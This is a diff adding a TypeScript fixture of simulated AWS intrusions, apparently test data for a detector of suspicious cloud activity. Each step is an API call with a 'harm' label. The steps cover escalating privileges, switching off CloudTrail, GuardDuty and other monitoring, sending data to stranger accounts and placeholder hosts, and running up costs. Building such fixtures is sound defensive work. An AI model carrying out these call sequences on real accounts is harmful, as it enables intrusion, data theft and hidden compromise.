@@ -1,0 +1,127 @@
+import { AGENTS, DATA, HOME, role, STRANGER, user, type Caller, type Intrusion, type Step } from './step';
+
+const policy = (...statements: object[]): string => JSON.stringify({ Version: '2012-10-17', Statement: statements });
+const BOTO = 'Boto3/1.41.2 md/Botocore#1.41.2 ua/2.1 os/linux#6.1.0-40-amd64 md/arch#x86_64 lang/python#3.11.2 md/pyimpl#CPython Botocore/1.41.2';
+const SHELL = 'aws-cli/2.32.1 md/awscrt#0.28.4 ua/2.1 os/macos#25.1.0 md/arch#arm64 lang/python#3.13.9 md/pyimpl#CPython';
+const strange = (service: string, rest: string): string => `arn:aws:${service}:us-east-1:${STRANGER}:${rest}`;
+const own = (service: string, rest: string): string => `arn:aws:${service}:us-east-1:${HOME}:${rest}`;
+/** Somebody of another account, who takes on a role of this one. */
+const outside: Caller = { identity: { type: 'AWSAccount', principalId: 'AIDASTRANGEREXAMPLE1', accountId: STRANGER }, from: '198.51.100.186', agent: BOTO };
+
+/** The half of the sixth set that is about identities, watchmen, data, functions, and what is sent and paid for. */
+export const sixthIntrusionsBeyond: readonly Intrusion[] = [
+  {
+    name: 'tokens that go out, and roles that anybody takes',
+    as: role('AWSReservedSSO_IAMAdmin_6f7a8b9c0d1e2f3a', 'uma@example.com', '203.0.113.186', SHELL),
+    steps: [
+      { call: 'iam:EnableOutboundWebIdentityFederation', request: null, response: { issuerIdentifier: 'https://aa11bb22.tokens.sts.global.api.aws' }, harm: 'tokens of the account’s for services elsewhere made possible' },
+      { call: 'sts:GetWebIdentityToken', request: { audience: ['https://collect.example.net'], signingAlgorithm: 'ES384', durationSeconds: 3600 }, response: { webIdentityTokenId: 'x', expiration: 'May 2, 2026, 9:00:00 AM' }, harm: 'a token made for a strange service' },
+      { call: 'iam:UpdateOpenIDConnectProviderThumbprint', request: { openIDConnectProviderArn: `arn:aws:iam::${HOME}:oidc-provider/gitlab.example.com`, thumbprintList: ['0123456789abcdef0123456789abcdef01234567'] }, harm: 'another certificate trusted for a provider of identities' },
+      { call: 'iam:UpdateRole', request: { roleName: 'backup', maxSessionDuration: 43200 } },
+      { call: 'iam:DeleteUserPermissionsBoundary', request: { userName: 'intern' }, harm: 'the boundary of a user taken away' },
+      { call: 'iam:UpdateUser', request: { userName: 'intern', newUserName: 'svc-monitoring' }, harm: 'a user given the name of a technical one' },
+      { call: 'iam:AddRoleToInstanceProfile', request: { instanceProfileName: 'web', roleName: 'OrganizationAccountAccessRole' }, harm: 'the strongest role laid into the profile of machines' },
+      { call: 'iam:PutRolePolicy', request: { roleName: 'ci-build', policyName: 'x', policyDocument: policy({ Effect: 'Allow', Action: ['iam:PassRole', 'ec2:RunInstances', 'ssm:SendCommand'], Resource: '*' }) }, harm: 'any role may be given to any machine' },
+      { call: 'iam:CreateRole', request: { roleName: 'aws-reserved-support', path: '/service-role/', assumeRolePolicyDocument: policy({ Effect: 'Allow', Principal: { AWS: '*' }, Action: 'sts:AssumeRole', Condition: { StringEquals: { 'sts:ExternalId': 'x' } } }), maxSessionDuration: 43200 }, harm: 'a role for whoever knows a word' },
+      { call: 'sts:AssumeRole', as: outside, request: { roleArn: `arn:aws:iam::${HOME}:role/service-role/aws-reserved-support`, roleSessionName: 'support', externalId: 'x' }, response: { credentials: { accessKeyId: 'ASIAOUTSIDEEXAMPLE01' }, assumedRoleUser: { arn: `arn:aws:sts::${HOME}:assumed-role/aws-reserved-support/support` } }, more: { sharedEventID: '9f0e1d2c-3b4a-4958-8677-66554433221b' } },
+      { call: 'rolesanywhere:CreateProfile', request: { name: 'x', roleArns: [`arn:aws:iam::${HOME}:role/OrganizationAccountAccessRole`], enabled: true, durationSeconds: 43200, acceptRoleSessionName: true }, harm: 'a profile that hands the strongest role to holders of certificates' },
+      { call: 'rolesanywhere:DisableCrl', request: { crlId: 'aa11bb22-cc33-4d44-8e55-ff6677889900' }, harm: 'withdrawn certificates good again' },
+      { call: 'sso-directory:CreateBearerToken', request: { tenantId: '9067aa11-1111' }, harm: 'a token that writes users into the directory' },
+      { call: 'sso-directory:EnableExternalIdPConfigurationForDirectory', request: { directoryId: 'd-9067aa11bb', configurationId: 'x' }, harm: 'everybody signed in by another provider' },
+      { call: 'iam:DeleteRolePolicy', request: { roleName: 'ci-build', policyName: 'deny-outside-network' } },
+      { call: 'iam:SetSecurityTokenServicePreferences', request: { globalEndpointTokenVersion: 'v2Token' } },
+    ],
+  },
+  {
+    name: 'watchmen sent home by their side doors',
+    as: role('SecurityAudit', 'vic@example.com', '203.0.113.187', AGENTS.browser),
+    steps: [
+      { call: 'cloudtrail:StopEventDataStoreIngestion', request: { eventDataStore: own('cloudtrail', 'eventdatastore/aa11') }, harm: 'a store of events fed no more' },
+      { call: 'cloudtrail:UpdateEventDataStore', request: { eventDataStore: own('cloudtrail', 'eventdatastore/aa11'), terminationProtectionEnabled: false, retentionPeriod: 7 }, harm: 'a store of events that keeps a week and may be deleted' },
+      { call: 'cloudtrail:DeleteEventDataStore', request: { eventDataStore: own('cloudtrail', 'eventdatastore/aa11') }, harm: 'a store of events deleted' },
+      { call: 'cloudtrail:PutInsightSelectors', request: { trailName: 'organization', insightSelectors: [] }, harm: 'the search for unusual calls switched off' },
+      { call: 'guardduty:DisassociateFromAdministratorAccount', request: { detectorId: '12abc34d567e8fa901bc2d34e56789f0' }, harm: 'the account taken from those who watch it' },
+      { call: 'guardduty:DeletePublishingDestination', request: { detectorId: '12abc34d567e8fa901bc2d34e56789f0', destinationId: 'x' }, harm: 'findings kept nowhere' },
+      { call: 'guardduty:CreateTrustedEntitySet', request: { detectorId: '12abc34d567e8fa901bc2d34e56789f0', name: 'office', format: 'TXT', location: 'https://stranger-drop.s3.amazonaws.com/ips.txt', activate: true }, harm: 'the intruder’s own addresses trusted' },
+      { call: 'securityhub:BatchDisableStandards', request: { StandardsSubscriptionArns: [own('securityhub', 'subscription/aws-foundational-security-best-practices/v/1.0.0')] }, harm: 'a standard checked no more' },
+      { call: 'macie2:DisableMacie', request: {}, harm: 'the watch over buckets switched off' },
+      { call: 'detective:DeleteGraph', request: { GraphArn: own('detective', 'graph:aa11') }, harm: 'what investigators look things up in deleted' },
+      { call: 'config:PutRetentionConfiguration', request: { retentionPeriodInDays: 30 }, harm: 'the history of settings kept for a month only' },
+      { call: 'logs:PutSubscriptionFilter', request: { logGroupName: '/aws/eks/prod/cluster', filterName: 'x', filterPattern: '', destinationArn: strange('logs', 'destination:x') }, harm: 'logs sent to a strange account' },
+      { call: 'logs:DeleteLogStream', request: { logGroupName: '/aws/ssm/session-logs', logStreamName: 'vic-0aa11bb22cc33dd44' }, harm: 'the log of a session deleted' },
+      { call: 'logs:DeleteDataProtectionPolicy', request: { logGroupIdentifier: '/app/checkout' }, harm: 'secrets in logs masked no more' },
+      { call: 'oam:CreateLink', request: { labelTemplate: '$AccountName', resourceTypes: ['AWS::CloudWatch::Metric', 'AWS::Logs::LogGroup'], sinkIdentifier: strange('oam', 'sink/aa11') }, harm: 'metrics and logs shown to a strange account' },
+      { call: 'securitylake:DeleteDataLake', request: { regions: ['us-east-1'] }, harm: 'the lake of security data deleted' },
+      { call: 'fms:DeletePolicy', request: { policyId: 'aa11bb22-cc33-4d44-8e55-ff6677889900', deleteAllPolicyResources: true }, harm: 'the firewall’s policy for all accounts deleted' },
+      { call: 'ce:DeleteAnomalySubscription', request: { subscriptionArn: `arn:aws:ce::${HOME}:anomalysubscription/aa11` }, harm: 'the watch over unusual costs deleted' },
+      { call: 'account:PutAlternateContact', request: { alternateContactType: 'SECURITY', emailAddress: 'x@example.net', name: 'x', phoneNumber: '+1', title: 'x' }, harm: 'AWS’s warnings sent to somebody else' },
+    ],
+  },
+  {
+    name: 'data that flows out by itself',
+    as: user('etl', BOTO, '198.51.100.188'),
+    steps: [
+      { call: 's3:ListBuckets' },
+      { call: 's3:CreateAccessGrant', request: { accountId: HOME, accessGrantsLocationId: 'default', accessGrantsLocationConfiguration: { s3SubPrefix: '*' }, grantee: { granteeType: 'IAM', granteeIdentifier: `arn:aws:iam::${STRANGER}:role/x` }, permission: 'READWRITE' }, harm: 'a strange role let into all buckets' },
+      { call: 's3:PutBucketNotification', request: { bucketName: 'customer-files', NotificationConfiguration: { QueueConfiguration: { Queue: strange('sqs', 'x'), Event: ['s3:ObjectCreated:*'], Id: 'x' } }, notification: '' }, harm: 'a strange account told of each new object' },
+      { call: 's3:PutObjectAcl', request: { bucketName: 'customer-files', key: 'export/customers.csv', acl: '', 'x-amz-acl': 'public-read' }, more: { ...DATA, readOnly: false }, harm: 'an object made public' },
+      { call: 's3:DeleteObject', request: { bucketName: 'acme-vault', key: '2026/04/30.tar', 'x-amz-bypass-governance-retention': 'true', versionId: 'x' }, more: { ...DATA, readOnly: false }, harm: 'an object deleted in spite of its lock' },
+      { call: 'dms:CreateEndpoint', request: { endpointIdentifier: 'x', endpointType: 'target', engineName: 'postgres', serverName: 'db.example.net', port: 5432, username: 'x', password: '****' } },
+      { call: 'redshift:AuthorizeDataShare', request: { dataShareArn: own('redshift', 'datashare:aa11/sales'), consumerIdentifier: STRANGER }, harm: 'a warehouse’s data shared with a strange account' },
+      { call: 'redshift:GetClusterCredentials', request: { clusterIdentifier: 'dw', dbUser: 'admin', autoCreate: true, dbGroups: ['admins'], durationSeconds: 3600 }, response: { dbUser: 'IAMA:admin:admins', expiration: 'May 2, 2026, 9:00:00 AM' } },
+      { call: 'kinesis:PutResourcePolicy', request: { resourceARN: own('kinesis', 'stream/orders'), policy: policy({ Effect: 'Allow', Principal: { AWS: STRANGER }, Action: ['kinesis:GetRecords', 'kinesis:GetShardIterator', 'kinesis:DescribeStreamSummary'], Resource: own('kinesis', 'stream/orders') }) }, harm: 'a stream read by a strange account' },
+      { call: 'firehose:UpdateDestination', request: { deliveryStreamName: 'orders', currentDeliveryStreamVersionId: '3', destinationId: 'd-1', httpEndpointDestinationUpdate: { endpointConfiguration: { url: 'https://collect.example.net/in', name: 'x' } } }, harm: 'a stream delivered to another server' },
+      { call: 'glue:PutResourcePolicy', request: { policyInJson: policy({ Effect: 'Allow', Principal: { AWS: `arn:aws:iam::${STRANGER}:root` }, Action: 'glue:*', Resource: own('glue', '*') }), enableHybrid: 'TRUE' }, harm: 'the catalogue of data opened to a strange account' },
+      { call: 'sqs:SetQueueAttributes', request: { queueUrl: `https://sqs.us-east-1.amazonaws.com/${HOME}/orders`, attributes: { Policy: policy({ Effect: 'Allow', Principal: '*', Action: 'sqs:*', Resource: own('sqs', 'orders') }) } }, harm: 'a queue opened to everyone' },
+      { call: 'sqs:AddPermission', request: { queueUrl: `https://sqs.us-east-1.amazonaws.com/${HOME}/payments`, label: 'x', aWSAccountIds: [STRANGER], actions: ['*'] }, harm: 'a queue opened to a strange account' },
+      { call: 'sns:AddPermission', request: { topicArn: own('sns', 'orders'), label: 'x', aWSAccountId: [STRANGER], actionName: ['Subscribe', 'Publish'] }, harm: 'a topic opened to a strange account' },
+      { call: 'sns:Subscribe', request: { topicArn: own('sns', 'orders'), protocol: 'sqs', endpoint: strange('sqs', 'x'), returnSubscriptionArn: true }, harm: 'messages sent to a queue of a strange account' },
+      { call: 'snowball:CreateJob', request: { jobType: 'EXPORT', resources: { s3Resources: [{ bucketArn: 'arn:aws:s3:::customer-files' }] }, addressId: 'ADID1234', snowballType: 'EDGE', roleARN: `arn:aws:iam::${HOME}:role/snow` }, harm: 'buckets put on a device that is sent by post' },
+      { call: 'lightsail:DownloadDefaultKeyPair', request: null, response: { createdAt: 'x' }, harm: 'the key of all small machines taken' },
+      { call: 'lightsail:PutInstancePublicPorts', request: { instanceName: 'blog', portInfos: [{ fromPort: 0, toPort: 65535, protocol: 'all', cidrs: ['0.0.0.0/0'] }] }, harm: 'every port of a small machine opened' },
+    ],
+  },
+  {
+    name: 'functions, clusters and doors of applications left ajar',
+    as: role('DeployAdmin', 'wim@example.com', '203.0.113.189', SHELL),
+    steps: [
+      { call: 'lambda:PutFunctionEventInvokeConfig', request: { functionName: 'checkout', qualifier: '$LATEST', destinationConfig: { onSuccess: { destination: strange('sqs', 'x') } } }, harm: 'what a function answers sent to a strange account' },
+      { call: 'eks:CreatePodIdentityAssociation', request: { name: 'prod', namespace: 'default', serviceAccount: 'default', roleArn: `arn:aws:iam::${HOME}:role/OrganizationAccountAccessRole`, clientRequestToken: 'x' }, harm: 'the strongest role given to all pods of a namespace' },
+      { call: 'eks:UpdateClusterConfig', request: { name: 'prod', logging: { clusterLogging: [{ types: ['api', 'audit', 'authenticator'], enabled: false }] } }, harm: 'the log of a cluster switched off' },
+      { call: 'ecs:UpdateService', request: { cluster: 'prod', service: 'checkout', enableExecuteCommand: true, forceNewDeployment: true }, harm: 'shells in the containers of a service made possible' },
+      { call: 'ecr:PutRegistryScanningConfiguration', request: { scanType: 'BASIC', rules: [] }, harm: 'images looked at no more' },
+      ...Array.from({ length: 4 }, (_, n): Step => ({ call: 'ecr:BatchDeleteImage', request: { repositoryName: `svc-${n}`, imageIds: Array.from({ length: 40 }, (_, i) => ({ imageTag: `v${i}` })) }, after: 3, ...(n === 3 ? { harm: 'images of one service after the other deleted' } : {}) })),
+      { call: 'apigateway:UpdateIntegration', request: { restApiId: 'a1b2c3d4e5', resourceId: 'r1', httpMethod: 'POST', patchOperations: [{ op: 'replace', path: '/uri', value: 'https://collect.example.net/in' }] }, harm: 'requests of customers sent to another server' },
+      { call: 'elasticloadbalancing:ModifyListener', request: { listenerArn: own('elasticloadbalancing', 'listener/app/admin/1/2'), mutualAuthentication: { mode: 'off' } }, harm: 'clients asked for no certificate any more' },
+      { call: 'elasticloadbalancing:ModifyLoadBalancerAttributes', request: { loadBalancerArn: own('elasticloadbalancing', 'loadbalancer/app/shop/1'), attributes: [{ key: 'access_logs.s3.enabled', value: 'false' }] }, harm: 'the log of visitors switched off' },
+      { call: 'appsync:UpdateGraphqlApi', request: { apiId: 'a1', name: 'shop', authenticationType: 'API_KEY' }, harm: 'an interface that lets in whoever has a key' },
+      { call: 'cognito-idp:SetUserPoolMfaConfig', request: { userPoolId: 'us-east-1_AbCdEfGhI', mfaConfiguration: 'OFF' }, harm: 'customers asked for no second factor any more' },
+      { call: 'cloud9:CreateEnvironmentMembership', request: { environmentId: 'aa11', userArn: `arn:aws:iam::${STRANGER}:user/x`, permissions: 'read-write' }, harm: 'a stranger let into a developer’s machine' },
+      { call: 'cloudfront:UpdateDistribution2020_05_31', request: { id: 'E1AA11BB22', distributionConfig: { enabled: true, origins: { quantity: 1, items: [{ id: 'o', domainName: 'collect.example.net' }] } } } },
+      { call: 'cloudformation:CreateStack', request: { stackName: 'x', templateURL: 'https://stranger-drop.s3.amazonaws.com/t.yml', capabilities: ['CAPABILITY_NAMED_IAM'], roleARN: `arn:aws:iam::${HOME}:role/cfn-admin` } },
+      { call: 'iot:CreatePolicy', request: { policyName: 'x', policyDocument: policy({ Effect: 'Allow', Action: 'iot:*', Resource: '*' }) }, harm: 'a policy for things that allows everything' },
+    ],
+  },
+  {
+    name: 'mail, messages and models at the company’s cost',
+    as: user('ses-smtp', SHELL, '198.51.100.190'),
+    steps: [
+      { call: 'ses:GetAccount', request: null },
+      { call: 'ses:PutAccountSuppressionAttributes', request: { suppressedReasons: [] }, harm: 'those who complained written to again' },
+      { call: 'ses:DeleteConfigurationSetEventDestination', request: { configurationSetName: 'main', eventDestinationName: 'bounces' }, harm: 'nobody told of mail that comes back' },
+      { call: 'sms-voice:SetTextMessageSpendLimitOverride', request: { monthlyLimit: 50000 }, harm: 'the limit for messages raised to 50,000 dollars' },
+      { call: 'sms-voice:RequestPhoneNumber', request: { isoCountryCode: 'US', messageType: 'PROMOTIONAL', numberCapabilities: ['SMS', 'VOICE'], numberType: 'TOLL_FREE' }, harm: 'a number to send messages from' },
+      { call: 'connect:ClaimPhoneNumber', request: { targetArn: own('connect', 'instance/aa11'), phoneNumber: '+15555550100' } },
+      ...['us-east-1', 'us-west-2', 'eu-west-3', 'ap-northeast-1', 'ap-south-1'].flatMap((region, n): Step[] => [
+        { call: 'bedrock:ListFoundationModels', request: {}, region, after: 1 },
+        { call: 'bedrock:GetFoundationModelAvailability', request: { modelId: 'anthropic.claude-opus-4-5-20251101-v1:0' }, region, after: 1, ...(n === 4 ? { harm: 'models looked for in one region after the other' } : {}) },
+      ]),
+      { call: 'bedrock:PutResourcePolicy', request: { resourceArn: own('bedrock', 'custom-model/amazon.nova-pro-v1:0/aa11'), policy: policy({ Effect: 'Allow', Principal: { AWS: `arn:aws:iam::${STRANGER}:root` }, Action: ['bedrock:CreateModelCopyJob', 'bedrock:GetCustomModel'], Resource: '*' }) }, harm: 'a model of the company’s opened to a strange account' },
+      { call: 'sagemaker:CreateCluster', request: { clusterName: 'x', instanceGroups: [{ instanceGroupName: 'g', instanceCount: 16, instanceType: 'ml.p5.48xlarge', executionRole: `arn:aws:iam::${HOME}:role/sagemaker` }] }, harm: 'a cluster of the dearest machines for models' },
+      { call: 'aws-marketplace:Subscribe', request: { productId: 'prod-aa11bb22cc33d' } },
+      { call: 'route53domains:RegisterDomain', request: { domainName: 'acme-support.example', durationInYears: 1, autoRenew: false }, harm: 'a domain for phishing bought on the bill' },
+      { call: 'workmail:CreateUser', request: { organizationId: 'm-aa11', name: 'billing', displayName: 'Billing' } },
+      { call: 'ec2:PurchaseScheduledInstances', request: { PurchaseScheduledInstancesRequest: { PurchaseRequest: { InstanceCount: 50, PurchaseToken: 'x', tag: 1 } } }, harm: 'machines bought by the hour for a year' },
+    ],
+  },
+];
